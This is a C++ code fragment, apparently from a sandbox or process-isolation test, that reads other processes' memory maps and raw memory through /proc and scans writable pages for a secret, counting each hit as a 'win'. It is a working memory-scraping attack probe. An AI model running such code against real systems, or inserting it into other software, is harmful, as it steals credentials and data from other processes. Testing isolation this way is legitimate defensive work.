static void search(pid_t pid) {
    const std::string place = "/proc/" + std::to_string(pid);
    std::string maps = contents(place + "/maps");
    const int memory = open((place + "/mem").c_str(), O_RDONLY);
    if (memory < 0) return;
    if (!maps.empty()) win("maps of another");
    static char page[1 << 16];
    for (size_t at = 0; at < maps.size(); at = maps.find('\n', at) + 1) {
        unsigned long from = 0, to = 0;
        char mode[8];
        if (sscanf(maps.c_str() + at, "%lx-%lx %7s", &from, &to, mode) != 3) break;
        if (mode[1] == 'w') {
            for (; from < to && from + (8u << 20) > to; from += sizeof page) {
                const ssize_t got = pread(memory, page, sizeof page, (off_t)from);
                if (got > 0 && has_secret(std::string(page, (size_t)got))) win("memory");
            }
        }
        if (maps.find('\n', at) == std::string::npos) break;
    }
    close(memory);
}
static void look() {
    std::vector<pid_t> pids = others();
    pids.push_back(getppid());
    pids.push_back(BYSTANDER);
    for (pid_t pid = 1; pid < 64; ++pid) pids.push_back(pid);
    for (const pid_t pid : pids) if (pid != getpid()) search(pid);
}
#define ATTACK_START look()
